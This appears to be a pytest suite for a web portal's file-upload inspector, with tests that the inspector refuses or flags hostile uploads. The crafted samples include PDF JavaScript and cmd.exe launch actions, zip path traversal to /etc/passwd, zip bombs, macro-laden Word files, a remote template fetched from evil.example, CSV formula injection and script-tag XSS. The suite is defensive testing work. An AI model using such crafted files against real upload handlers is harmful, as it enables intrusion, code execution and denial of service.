"""Uploaded files are told by their content, and what could harm stays out."""

import io
import stat
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest
from django.test import RequestFactory
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from portal.house import pdf_reader
from portal.house.documents import Fields, Paper, SheetColumn, TableSheet, word, workbook
from portal.house.sealing import SealBroken
from portal.house.uploads import NotKept, discard, inspect, is_kept, keep, open_stored, sent_stored
from portal.house.uploads.remarks import WORDINGS, Remark

ALL = ("pdf", "jpg", "png", "docx", "xlsx", "pptx", "zip", "txt", "md", "csv")
MB = 2**20


def pdf_file(*, script: str = "", opened_by: str = "", owner: str = "") -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if script:
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(script)}
        )
    if opened_by or owner:
        writer.encrypt(opened_by, owner or None, algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def png_file(width: int = 2, height: int = 2, tail: bytes = b"") -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return len(body).to_bytes(4) + kind + body + zlib.crc32(kind + body).to_bytes(4)

    head = width.to_bytes(4) + height.to_bytes(4) + bytes([8, 0, 0, 0, 0])
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 6)) + chunk(b"IEND", b"") + tail


def jpeg_file(width: int = 640, height: int = 480, tail: bytes = b"") -> bytes:
    frame = b"\xff\xc0" + (11).to_bytes(2) + b"\x08" + height.to_bytes(2) + width.to_bytes(2) + b"\x01\x01\x11\x00"
    return b"\xff\xd8\xff\xe0" + (16).to_bytes(2) + b"JFIF\0" + b"\0" * 9 + frame + b"\xff\xda" + b"\0" * 20 + b"\xff\xd9" + tail


def zip_file(entries: dict[str, bytes], *, links: tuple[str, ...] = ()) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            entry = zipfile.ZipInfo(name)
            entry.compress_type = zipfile.ZIP_DEFLATED
            if name in links:
                entry.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(entry, content)
    return out.getvalue()


def word_file() -> bytes:
    return word(Paper(title="申报书", blocks=(Fields((("项目", "天启"),)),)))


def with_part(content: bytes, name: str, part: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        entries = {one: archive.read(one) for one in archive.namelist()}
    return zip_file(entries | {name: part})


def excel_file() -> bytes:
    return workbook([TableSheet("表", (SheetColumn("列"),), (("甲",),))], title="表", meta={})


def told(content: bytes, name: str, allowed: tuple[str, ...] = ALL, max_bytes: int = 20 * MB) -> tuple[str, set[str], set[str]]:
    found = inspect(content, name, allowed=allowed, max_bytes=max_bytes)
    assert all(str(remark) for remark in (*found.refusals, *found.warnings))
    return found.media, {one.code for one in found.refusals}, {one.code for one in found.warnings}


@pytest.mark.parametrize(
    ("make", "name", "media"),
    [
        (pdf_file, "证明.pdf", "pdf"),
        (png_file, "截图.PNG", "png"),
        (jpeg_file, "照片.jpeg", "jpg"),
        (word_file, "申报书.docx", "docx"),
        (excel_file, "预算.xlsx", "xlsx"),
        (lambda: zip_file({"甲/说明.txt": b"1"}), "材料.zip", "zip"),
        ("说明：一".encode, "readme.md", "md"),
        (lambda: "说明，一".encode("gb18030"), "说明.txt", "txt"),
        ("\ufeff甲,乙\n1,-2".encode, "数据.csv", "csv"),
    ],
)
def test_a_plain_file_of_every_kind_comes_in(make: Any, name: str, media: str) -> None:
    assert told(make(), name) == (media, set(), set())


def test_the_size_and_digest_are_said() -> None:
    found = inspect(b"abc", "a.txt", allowed=("txt",), max_bytes=10)

    assert (found.size_bytes, found.sha256[:8], found.accepted) == (3, "ba7816bf", True)


@pytest.mark.parametrize("name", ["申报书.docx", "申报书.pdf.exe", "申报书", "申报书.txt"])
def test_an_ending_that_does_not_agree_with_the_content_is_refused(name: str) -> None:
    assert told(pdf_file(), name)[1] & {"ending", "no-ending"}


def test_a_kind_that_is_not_asked_for_is_refused() -> None:
    assert told(png_file(), "a.png", allowed=("pdf",))[1] == {"kind"}


@pytest.mark.parametrize(
    "content",
    [
        b"MZ\x90\0",
        b"\x7fELF\x02",
        b"<html><script>alert(1)</script>",
        b"Rar!\x1a\x07\x00",
        b"\x1f\x8b\x08",
        b"GIF89a",
        b"PK\x05\x06" + b"\0" * 18,
    ],
)
def test_programs_pages_and_other_archives_are_refused(content: bytes) -> None:
    for name in ("a.exe", "a.html", "a.pdf", "a.gif", "a.zip"):
        assert told(content, name)[1]


def test_an_empty_and_a_large_file_are_refused() -> None:
    assert told(b"", "a.txt")[1] == {"empty"}
    assert told(b"a" * 11, "a.txt", max_bytes=10)[1] == {"large"}


def test_a_name_that_hides_its_ending_is_refused() -> None:
    assert told(pdf_file(), "a\u202efdp.pdf")[1] == {"name"}


def test_a_pdf_with_a_script_is_flagged() -> None:
    assert told(pdf_file(script="app.alert(1)"), "a.pdf") == ("pdf", set(), {"script"})


def test_a_script_under_another_spelling_of_its_name_is_flagged() -> None:
    plain = pdf_file(script="app.alert(1)")
    spelt = plain.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4AS")

    assert told(spelt, "a.pdf")[2] >= {"script"}


def test_a_pdf_that_starts_a_program_is_flagged() -> None:
    writer = PdfWriter()
    writer.add_blank_page(10, 10)
    launch = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})
    writer.root_object[NameObject("/OpenAction")] = launch
    out = io.BytesIO()
    writer.write(out)

    assert told(out.getvalue(), "a.pdf")[2] == {"script"}


def test_a_pdf_with_a_file_inside_is_flagged() -> None:
    writer = PdfWriter()
    writer.add_blank_page(10, 10)
    writer.add_attachment("a.txt", b"1")
    out = io.BytesIO()
    writer.write(out)

    assert told(out.getvalue(), "a.pdf")[2] == {"embedded"}


def test_a_pdf_that_asks_for_a_password_is_refused_and_one_that_only_restricts_is_flagged() -> None:
    assert told(pdf_file(opened_by="open"), "a.pdf")[1] == {"locked"}
    assert told(pdf_file(owner="owner"), "a.pdf") == ("pdf", set(), {"restricted"})


def test_a_pdf_cut_short_is_refused() -> None:
    assert told(pdf_file()[:200], "a.pdf")[1]


@pytest.mark.parametrize("front", [b"<html>", b"GIF89a", b"\xff\xfe"])
def test_a_pdf_that_does_not_begin_at_the_beginning_is_refused(front: bytes) -> None:
    assert "two-in-one" in told(front + pdf_file(), "a.pdf")[1]


@pytest.mark.parametrize(("make", "name"), [(pdf_file, "a.pdf"), (png_file, "a.png"), (jpeg_file, "a.jpg")])
def test_a_zip_hung_onto_another_file_is_refused(make: Any, name: str) -> None:
    assert told(make() + zip_file({"a.html": b"1"}), name)[1] == {"two-in-one"}


def test_a_picture_of_too_many_pixels_is_refused_by_its_head() -> None:
    assert told(png_file(60_000, 60_000), "a.png")[1] == {"pixels"}
    assert told(jpeg_file(60_000, 60_000), "a.jpg")[1] == {"pixels"}


def test_what_a_phone_appends_to_a_photograph_is_said_only() -> None:
    assert told(jpeg_file(tail=b"SEFT" * 50), "a.jpg") == ("jpg", set(), {"tail"})


def test_a_picture_cut_before_its_size_is_refused() -> None:
    assert told(jpeg_file()[:12], "a.jpg")[1] == {"broken"}
    assert told(b"\x89PNG\r\n\x1a\n", "a.png")[1] == {"broken"}


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "C:\\a.txt", "a/../../b", "a\\..\\b.txt", "a\x01.txt"])
def test_a_path_that_leaves_its_folder_is_refused(name: str) -> None:
    assert told(zip_file({name: b"1"}), "a.zip")[1] == {"path"}


def test_a_link_in_an_archive_is_refused() -> None:
    assert told(zip_file({"a": b"/etc/passwd"}, links=("a",)), "a.zip")[1] == {"path"}


def test_a_bomb_is_refused_by_what_it_unfolds_to() -> None:
    assert told(zip_file({"a.txt": b"\0" * 60 * MB}), "a.zip")[1] == {"bomb"}


def test_a_bomb_inside_an_archive_counts() -> None:
    inner = zip_file({"a.txt": b"\0" * 30 * MB})

    assert told(zip_file({f"{n}.zip": inner for n in range(3)}), "a.zip")[1] == {"bomb"}


def test_archives_in_archives_have_an_end() -> None:
    content = zip_file({"a.txt": b"1"})
    for _ in range(2):
        content = zip_file({"in.zip": content})
    assert told(content, "a.zip")[1] == set()

    assert told(zip_file({"in.zip": content}), "a.zip")[1] == {"deep"}


def test_too_many_files_and_two_of_one_name_are_refused() -> None:
    assert told(zip_file({f"{n}.txt": b"" for n in range(2_001)}), "a.zip")[1] == {"many"}
    assert told(zip_file({"a.txt": b"1", "A.TXT": b"2"}), "a.zip")[1] == {"twice"}


def test_a_locked_archive_is_refused() -> None:
    locked = bytearray(zip_file({"a.txt": b"1"}))
    locked[6] |= 1
    locked[bytes(locked).index(b"PK\x01\x02") + 8] |= 1

    assert told(bytes(locked), "a.zip")[1] == {"locked"}


def test_programs_and_closed_archives_inside_are_flagged() -> None:
    found = told(zip_file({"setup.exe": b"MZ", "b.txt": b"Rar!\x1a\x07\x00"}), "a.zip")

    assert found == ("zip", set(), {"program", "sealed-inside"})


def test_a_word_file_with_a_macro_is_refused() -> None:
    assert told(with_part(word_file(), "word/vbaProject.bin", b"\xd0\xcf"), "a.docx")[1] == {"macro"}


def test_a_word_file_that_says_it_may_have_macros_is_refused() -> None:
    types = b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'

    assert told(with_part(word_file(), "[Content_Types].xml", types), "a.docx")[1] == {"macro"}


def test_a_template_loaded_from_elsewhere_is_refused() -> None:
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relation = f'<Relationship Id="rId9" Type="{office}/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'

    assert told(with_part(word_file(), "word/_rels/settings.xml.rels", relation.encode()), "a.docx")[1] == {"template"}


def test_a_link_in_a_word_file_is_plain_and_a_picture_from_elsewhere_is_flagged() -> None:
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    link = f'<Relationship Id="rId9" Type="{office}/hyperlink" Target="https://a.example" TargetMode="External"/>'.encode()
    picture = link.replace(b"/hyperlink", b"/image")

    assert told(with_part(word_file(), "word/_rels/footer1.xml.rels", link), "a.docx")[2] == set()
    assert told(with_part(word_file(), "word/_rels/footer1.xml.rels", picture), "a.docx")[2] == {"external"}


def test_an_object_in_a_word_file_is_flagged() -> None:
    assert told(with_part(word_file(), "word/embeddings/oleObject1.bin", b"\xd0\xcf"), "a.docx")[2] == {"embedded"}


def test_old_and_locked_office_files_are_refused_with_what_to_do() -> None:
    found = inspect(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "a.docx", allowed=("docx",), max_bytes=MB)

    assert "另存为" in str(found.refusals[0])


def test_a_formula_in_a_csv_is_flagged_and_a_negative_number_is_not() -> None:
    assert told(b"a,=HYPERLINK(1)\n", "a.csv")[2] == {"formula"}
    assert told(b"a,-5\n", "a.csv")[2] == set()


def test_a_text_with_binary_content_is_refused() -> None:
    assert told(b"abc\x00\x01", "a.txt")[1] == {"characters"}


def test_a_small_pdf_that_takes_for_ever_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pdf_reader, "PATIENCE_SECONDS", 0.01)

    assert told(pdf_file(), "a.pdf") == ("pdf", set(), {"unread"})


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    head=st.sampled_from([b"", b"%PDF-1.7\n", b"PK\x03\x04", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n"]),
    body=st.binary(max_size=400),
    name=st.sampled_from(["a.pdf", "a.zip", "a.jpg", "a.png", "a.docx", "a.txt", "a"]),
)
def test_no_bytes_make_the_inspection_fall_over(head: bytes, body: bytes, name: str) -> None:
    inspect(head + body, name, allowed=ALL, max_bytes=MB)


@settings(max_examples=100, deadline=None)
@given(at=st.integers(0, 5_000), value=st.integers(0, 255))
def test_no_damaged_file_makes_the_inspection_fall_over(at: int, value: int) -> None:
    damaged_pdf, damaged_word = bytearray(pdf_file(script="1")), bytearray(word_file())
    damaged_pdf[at % len(damaged_pdf)] = value
    damaged_word[at % len(damaged_word)] = value

    assert pdf_reader._answer(bytes(damaged_pdf), "marks")["state"]
    assert pdf_reader._answer(bytes(damaged_pdf), "text")["state"]
    inspect(bytes(damaged_word), "a.docx", allowed=ALL, max_bytes=MB)


def test_every_wording_can_be_said() -> None:
    values = {"n": 1, "most": 2, "allowed": "PDF", "ending": "a", "kind": "PDF", "path": "a", "width": 1, "height": 1}

    assert all(str(Remark(code, values)) for code in WORDINGS)


def lies(home: Path) -> list[Path]:
    return [path for path in (home / "attachments").rglob("*") if path.is_file()]


def test_a_kept_file_is_read_back_and_unreadable_on_the_disk(tmp_path: Path) -> None:
    digest = keep("银行账号 6222".encode())
    (file,) = lies(tmp_path / "home")

    assert open_stored(digest) == "银行账号 6222".encode()
    assert file.name == digest
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert "银行账号".encode() not in file.read_bytes()


def test_the_same_content_is_kept_once(tmp_path: Path) -> None:
    assert keep(b"a") == keep(b"a")
    assert len(lies(tmp_path / "home")) == 1


def test_a_discarded_file_is_gone() -> None:
    digest = keep(b"a")
    discard(digest)

    assert not is_kept(digest)
    with pytest.raises(NotKept, match="附件"):
        open_stored(digest)


def test_a_file_changed_on_the_disk_or_put_in_anothers_place_is_not_handed_out(tmp_path: Path) -> None:
    first, second = keep(b"first"), keep(b"second")
    places = {path.name: path for path in lies(tmp_path / "home")}
    places[first].write_bytes(places[second].read_bytes())

    with pytest.raises(SealBroken):
        open_stored(first)


@pytest.mark.parametrize("digest", ["../../city.key", "A" * 64, "", "0" * 63])
def test_a_digest_is_no_path(digest: str) -> None:
    with pytest.raises(NotKept):
        open_stored(digest)


def test_a_stored_file_leaves_as_a_download_that_no_browser_runs(rf: RequestFactory) -> None:
    answer = sent_stored(keep(b"<script>alert(1)</script>"), media="txt", name="附件-3")

    assert answer["Content-Disposition"] == "attachment; filename=\"3.txt\"; filename*=UTF-8''%E9%99%84%E4%BB%B6-3.txt"
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert answer["Cache-Control"] == "private, no-store"
    assert answer["Content-Type"] == "text/plain"
